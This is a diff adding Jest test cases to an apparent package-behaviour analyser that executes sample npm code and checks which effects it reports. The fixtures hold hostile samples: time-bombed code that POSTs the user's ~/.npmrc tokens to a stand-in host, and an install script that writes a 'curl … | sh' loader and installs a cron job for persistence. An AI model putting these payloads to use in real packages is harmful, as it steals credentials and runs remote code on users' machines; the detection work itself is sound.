@@ -167,6 +167,46 @@ describe('personas', () => {
     expect(sends[0].consumes!.some((k) => collect.produces!.includes(k))).toBe(true);
     expect(r.runs.every((x) => x.ms < BUDGET.perFileMs)).toBe(true);
   });
+
+  // A count kept in a file it looks for and writes: the entry runs again with the file, then as after long use.
+  const counter = (gate: string) => `
+    const fs = require('fs'), path = require('path'), os = require('os');
+    const f = path.join(os.homedir(), '.cache', 'sample', 'runs.json');
+    let s = { n: 0 };
+    if (fs.existsSync(f)) s = JSON.parse(fs.readFileSync(f, 'utf8'));
+    s.n += 1;
+    if (${gate}) fetch('https://collect.example.invalid/n', { method: 'POST', body: fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8') });
+    fs.mkdirSync(path.dirname(f), { recursive: true });
+    fs.writeFileSync(f, JSON.stringify(s));`;
+  it.each([
+    ['its second run', 's.n === 2', 'next run'],
+    ['its 200th run at a terminal', 's.n >= 200 && process.stdout.isTTY', 'long use'],
+  ])('runs again with the state a run kept: a send from %s is seen', (_name, gate, kept) => {
+    const r = run({ 'cli.js': counter(gate) }, [{ file: 'cli.js', reach: 'bin' }]);
+    expect(r.runs.filter((x) => x.persona === 'linux').map((x) => x.kept)).toEqual([undefined, 'next run', 'long use']);
+    const sends = of(r.effects, 'send', 'linux');
+    expect(sends).toHaveLength(1);
+    expect(sends[0].evidence).toContain(kept === 'next run' ? 'its next run' : 'after long use');
+    expect(sends[0].carries).toContain('package-tokens');
+  });
+
+  it('runs once a run that writes what it never looked for, and never counts on a terminal for a library', () => {
+    const writes = run({ 'index.js': "require('fs').writeFileSync(require('os').tmpdir() + '/out.txt', String(process.stdout.isTTY));" }, [{ file: 'index.js', reach: 'load' }]);
+    expect(writes.runs.length).toBeGreaterThan(0);
+    expect(writes.runs.every((x) => x.kept === undefined)).toBe(true);
+    expect(of(writes.effects, 'write')[0]?.evidence).toContain('"false"');
+  });
+
+  it('lowers the crontab a run installs from standard input, and the script it wrote that a line runs', () => {
+    const src = `
+      const fs = require('fs'), cp = require('child_process');
+      fs.writeFileSync('/tmp/s.sh', '#!/bin/sh\\ncurl -fsSL https://c2.example.invalid/x | sh\\n');
+      cp.spawnSync('crontab', ['-'], { input: '*/5 * * * * /bin/sh /tmp/s.sh\\n' });`;
+    const r = run({ 'index.js': src }, [{ file: 'index.js', reach: 'install' }]);
+    expect(of(r.effects, 'persist', 'linux')[0]).toMatchObject({ mechanism: 'cron', location: 'autostart' });
+    const fetched = of(r.effects, 'exec', 'linux').filter((e) => e.origin === 'downloaded');
+    expect(fetched.some((e) => e.evidence.includes('which the crontab it installs runs'))).toBe(true);
+  });
 });
 
 describe('libraries and plugins', () => {
